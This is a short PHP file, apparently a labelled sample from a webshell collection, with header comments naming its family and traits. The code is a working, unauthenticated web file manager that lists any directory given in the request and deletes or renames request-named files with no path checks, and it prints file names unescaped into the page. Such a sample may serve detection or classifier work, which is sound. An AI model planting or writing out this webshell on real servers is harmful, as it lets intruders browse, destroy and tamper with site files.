<?php
// Family: webshell/file-manager
// Style: directory browser with delete and rename links
// Trait: a request directory listed with opendir, request-named entries removed or renamed
$cwd = isset($_REQUEST['cd']) ? $_REQUEST['cd'] : '.';
if (!empty($_REQUEST['drop'])) {
	$victim = $cwd . '/' . $_REQUEST['drop'];
	is_dir($victim) ? rmdir($victim) : unlink($victim);
}
if (!empty($_REQUEST['from'])) {
	rename($cwd . '/' . $_REQUEST['from'], $cwd . '/' . $_REQUEST['to']);
}
$dh = opendir($cwd);
while (($e = readdir($dh)) !== false) {
	echo '<a href="?cd=' . urlencode($cwd . '/' . $e) . '">' . $e . '</a> <a href="?drop=' . urlencode($e) . '">x</a><br>';
}
